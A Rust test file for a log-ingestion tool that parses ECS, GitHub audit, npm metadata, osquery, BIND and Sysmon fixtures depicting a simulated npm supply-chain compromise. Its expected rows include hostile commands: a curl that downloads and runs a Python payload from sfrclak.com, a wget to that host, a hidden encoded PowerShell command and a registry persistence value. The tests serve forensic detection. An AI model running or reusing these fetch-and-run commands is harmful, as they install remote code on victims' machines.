//! Formats with no public sample, on fixtures written from their documentation
//! (tests/data/documented): ECS endpoint events, GitHub audit logs, npm package metadata.

use crate::common;

use common::{documented, ingest_files, one_row, query};
use spoor::core::Format;

#[test]
fn ecs_events_are_routed_by_category() {
    let t = ingest_files(&[documented("ecs_endpoint.ndjson")]);
    let f = &t.summary.files[0];
    assert_eq!(f.format, Some(Format::Ecs));
    assert_eq!((f.read, f.stored, f.skipped, f.rejected), (10, 7, 2, 1));
    assert_eq!(f.reject_reasons.keys().collect::<Vec<_>>(), ["no valid @timestamp"]);
    assert_eq!(f.skip_reasons["ECS process event that is not a start"].count, 1);

    let rows = query(
        &t.store,
        r#"SELECT "host.name", "process.entity_id", "process.name", "process.command_line", "process.parent.entity_id", "process.parent.name", "process.hash.sha256"
           FROM process ORDER BY "@timestamp""#,
    );
    assert_eq!(
        rows,
        [
            ["dev-laptop-07", "p-node-1", "node", "node setup.js", "p-npm-1", "npm", "NULL"],
            [
                "dev-laptop-07",
                "p-sh-1",
                "sh",
                "/bin/sh -c curl -o /tmp/ld.py -s http://sfrclak.com:8000/6202033 && nohup python3 /tmp/ld.py &",
                "p-node-1",
                "node",
                "abcdef0123"
            ],
        ]
    );
    let row = one_row(
        &t.store,
        r#"SELECT "destination.ip", "destination.port", "destination.domain", "network.transport", "network.direction", "log.file.line" FROM network"#,
    );
    assert_eq!(row, ["198.51.100.73", "8000", "sfrclak.com", "tcp", "egress", "4"]);
    let row = one_row(
        &t.store,
        r#"SELECT "dns.question.name", "dns.question.type", "dns.answers", "dns.resolved_ip" FROM dns"#,
    );
    assert_eq!(row, ["sfrclak.com", "A", "[198.51.100.73]", "[198.51.100.73]"]);
    let rows = query(
        &t.store,
        r#"SELECT "event.action", "file.name", "file.extension", "file.hash.sha256" FROM file ORDER BY "@timestamp""#,
    );
    assert_eq!(rows, [["creation", "ld.py", "py", "feedbeef"], ["deletion", "setup.js", "js", "NULL"]]);
    let row = one_row(
        &t.store,
        r#"SELECT "registry.value", "registry.data.strings", "registry.data.type", "event.action" FROM registry"#,
    );
    assert_eq!(row, ["wt", r"C:\ProgramData\wt.exe", "REG_SZ", "value_set"]);
}

#[test]
fn github_audit_log_array_and_stream() {
    let t = ingest_files(&[documented("github_audit_org.json"), documented("github_audit_stream.ndjson")]);
    assert_eq!(t.summary.files.iter().map(|f| f.format).collect::<Vec<_>>(), [Some(Format::AuditLog); 2]);
    let rows = query(
        &t.store,
        r#"SELECT "@timestamp", "audit.activity", "event.action", "user.name", "user.target.name", "audit.old_value", "audit.new_value",
                  "source.ip", "source.geo.country_iso_code", "organization.name", "package.name", "package.version", "log.file.line"
           FROM audit ORDER BY "@timestamp""#,
    );
    let expected = [
        [
            "2026-03-30T19:15:00Z",
            "email_change",
            "billing.change_email",
            "lead-maintainer",
            "NULL",
            "lead@example.com",
            "ifstap@proton.me",
            "2001:db8::7",
            "DE",
            "NULL",
            "NULL",
            "NULL",
            "1",
        ],
        [
            "2026-03-30T19:20:00Z",
            "token_create",
            "personal_access_token.create",
            "lead-maintainer",
            "NULL",
            "NULL",
            "NULL",
            "NULL",
            "DE",
            "NULL",
            "NULL",
            "NULL",
            "2",
        ],
        [
            "2026-03-30T20:00:00Z",
            "member_add",
            "org.add_member",
            "octo-admin",
            "new-dev",
            "NULL",
            "NULL",
            "NULL",
            "US",
            "example-org",
            "NULL",
            "NULL",
            "4",
        ],
        [
            "2026-03-30T23:30:00.123Z",
            "mfa_disable",
            "org.disable_two_factor_requirement",
            "octo-admin",
            "NULL",
            "NULL",
            "NULL",
            "203.0.113.7",
            "NL",
            "example-org",
            "NULL",
            "NULL",
            "16",
        ],
        [
            "2026-03-30T23:40:00Z",
            "package_publish",
            "packages.package_version_published",
            "octo-admin",
            "NULL",
            "NULL",
            "NULL",
            "NULL",
            "NULL",
            "example-org",
            "example-lib",
            "2.0.1",
            "27",
        ],
    ];
    assert_eq!(rows, common::rows(&expected));
    let stream = &t.summary.files[1];
    assert_eq!((stream.read, stream.rejected), (3, 1));
    assert_eq!(
        stream.reject_reasons.keys().collect::<Vec<_>>(),
        ["no valid time in @timestamp, created_at, timestamp, time, date"]
    );
}

#[test]
fn npm_metadata_gives_one_publish_per_version() {
    let t = ingest_files(&[documented("npm_metadata_plain-crypto-js.json"), documented("npm_metadata_axios.json")]);
    assert_eq!(t.summary.files.iter().map(|f| f.format).collect::<Vec<_>>(), [Some(Format::NpmMetadata); 2]);
    let rows = query(
        &t.store,
        r#"SELECT "@timestamp", "package.name", "package.version", "user.name", "user.email", "package.scripts", "log.file.line"
           FROM audit WHERE "audit.activity" = 'package_publish' ORDER BY "@timestamp""#,
    );
    let expected = [
        ["2026-03-27T19:01:40Z", "axios", "1.14.0", "lead-maintainer", "lead@example.com", "[]", "1"],
        ["2026-03-30T05:57:00Z", "plain-crypto-js", "4.2.0", "nrwise", "nrwise@proton.me", "[]", "6"],
        [
            "2026-03-30T23:59:12Z",
            "plain-crypto-js",
            "4.2.1",
            "nrwise",
            "nrwise@proton.me",
            "[postinstall: node setup.js]",
            "15",
        ],
        ["2026-03-31T00:21:58Z", "axios", "1.14.1", "lead-maintainer", "ifstap@proton.me", "[]", "1"],
    ];
    assert_eq!(rows, common::rows(&expected));
    let deps = one_row(&t.store, r#"SELECT "package.dependencies" FROM audit WHERE "package.version" = '1.14.1'"#);
    // In the order the metadata lists them.
    assert_eq!(deps[0], "[follow-redirects@^1.15.6, form-data@^4.0.4, proxy-from-env@^1.1.0, plain-crypto-js@^4.2.1]");
    // A version with no publish time is rejected with the reason, not dropped.
    let f = &t.summary.files[0];
    assert_eq!((f.read, f.stored, f.rejected), (3, 2, 1));
    assert_eq!(f.reject_reasons.keys().collect::<Vec<_>>(), ["plain-crypto-js@4.2.2: no publish time in `time`"]);
}

#[test]
fn any_ndjson_through_a_mapping_file() {
    let mapping = spoor::core::formats::mapping::Mapping::load(&documented("acme_edr.toml")).unwrap();
    let t = common::ingest_with(
        &[documented("acme_edr.ndjson")],
        spoor::core::ingest::IngestOptions { mapping: Some(mapping), ..Default::default() },
    );
    let f = &t.summary.files[0];
    assert_eq!(f.format, Some(Format::Mapped));
    assert_eq!((f.read, f.stored, f.rejected), (3, 1, 2));
    let reasons: Vec<_> = f.reject_reasons.keys().map(String::as_str).collect();
    assert_eq!(reasons, ["`process.pid`: `lots` is not an integer", "no valid timestamp in `ts`"]);
    let row = one_row(
        &t.store,
        r#"SELECT "@timestamp", "event.action", "host.name", "process.pid", "process.name", "process.parent.name", "spoor.format" FROM process"#,
    );
    assert_eq!(row, ["2026-03-31T00:41:02.120Z", "start", "ci-runner-3", "5120", "node", "npm", "mapped"]);
}

#[test]
fn osquery_differential_batched_and_snapshot_results() {
    let t = ingest_files(&[documented("osquery_results.log")]);
    let f = &t.summary.files[0];
    assert_eq!(f.format, Some(Format::Osquery));
    assert_eq!((f.read, f.stored, f.skipped, f.rejected), (7, 5, 2, 0));
    let rows = query(
        &t.store,
        r#"SELECT "@timestamp", "event.code", "host.name", "process.pid", "process.name", "process.command_line", "process.parent.pid"
           FROM process ORDER BY "@timestamp", "process.pid""#,
    );
    let expected = [
        [
            "2026-03-31T00:41:02Z",
            "process_events",
            "dev-laptop-07",
            "4102",
            "sh",
            "/bin/sh -c curl -o /tmp/ld.py -s http://sfrclak.com:8000/6202033",
            "4101",
        ],
        [
            "2026-03-31T00:41:20Z",
            "process_events",
            "dev-laptop-07",
            "4200",
            "wget",
            "wget http://sfrclak.com:8000/x",
            "4102",
        ],
        ["2026-03-31T01:00:00Z", "processes", "dev-laptop-07", "1", "systemd", "/sbin/init", "0"],
        ["2026-03-31T01:00:00Z", "processes", "dev-laptop-07", "4101", "node", "node setup.js", "4090"],
    ];
    assert_eq!(rows, common::rows(&expected));
    let row = one_row(
        &t.store,
        r#"SELECT "process.name", "network.transport", "network.direction", "destination.ip", "destination.port", "source.port" FROM network"#,
    );
    assert_eq!(row, ["curl", "tcp", "outbound", "198.51.100.73", "8000", "51544"]);
    let row = one_row(
        &t.store,
        r#"SELECT "event.code", "event.action", "file.path", "file.hash.sha256", "file.size" FROM file"#,
    );
    assert_eq!(row, ["file_events", "creation", "/tmp/ld.py", "feedbeef", "48213"]);
}

#[test]
fn bind_query_log() {
    let t = ingest_files(&[documented("bind_queries.log")]);
    let f = &t.summary.files[0];
    assert_eq!(f.format, Some(Format::Bind));
    assert_eq!((f.read, f.stored, f.skipped, f.rejected), (5, 3, 2, 0));
    let rows = query(
        &t.store,
        r#"SELECT "@timestamp", "source.ip", "source.port", "destination.ip", "dns.question.name", "dns.question.type", "network.transport", "log.file.line"
           FROM dns ORDER BY "@timestamp""#,
    );
    let expected = [
        ["2026-03-31T00:41:02.950Z", "10.20.0.7", "51544", "10.0.0.53", "sfrclak.com", "A", "udp", "2"],
        ["2026-03-31T00:41:03.002Z", "10.20.0.9", "40112", "10.0.0.53", "notsfrclak.com", "A", "udp", "3"],
        ["2026-03-31T00:41:05.300Z", "2001:db8::5", "40000", "2001:db8::53", "updates.example.org", "AAAA", "tcp", "4"],
    ];
    assert_eq!(rows, common::rows(&expected));
}

#[test]
fn winlogbeat_sysmon_events() {
    let t = ingest_files(&[documented("winlogbeat_sysmon.ndjson")]);
    let f = &t.summary.files[0];
    assert_eq!(f.format, Some(Format::Windows));
    // The last event has no event data at all: kept as what it says, a Sysmon 3 of that host.
    assert_eq!((f.read, f.stored, f.rejected), (5, 5, 0));
    let row = one_row(
        &t.store,
        r#"SELECT "@timestamp", "host.name", "user.name", "user.domain", "process.name", "process.command_line", "process.parent.name", "process.hash.sha256" FROM process"#,
    );
    assert_eq!(
        row,
        [
            "2026-03-31T00:44:59.870Z",
            "win-build-02.corp.example",
            "builder",
            "CORP",
            "powershell.exe",
            "powershell -nop -w hidden -enc SQBFAFgA",
            "cmd.exe",
            "ab12"
        ]
    );
    let row = one_row(&t.store, r#"SELECT "file.path", "file.extension", "process.name" FROM file"#);
    assert_eq!(row, [r"C:\ProgramData\wt.exe", "exe", "powershell.exe"]);
    let row = one_row(
        &t.store,
        r#"SELECT "registry.hive", "registry.value", "registry.data.strings", "event.action" FROM registry"#,
    );
    assert_eq!(row, ["HKU", "wt", r"C:\ProgramData\wt.exe", "value_set"]);
    let row = one_row(&t.store, r#"SELECT "dns.question.name", "dns.resolved_ip", "process.name" FROM dns"#);
    assert_eq!(row, ["sfrclak.com", "[198.51.100.73]", "wt.exe"]);
}
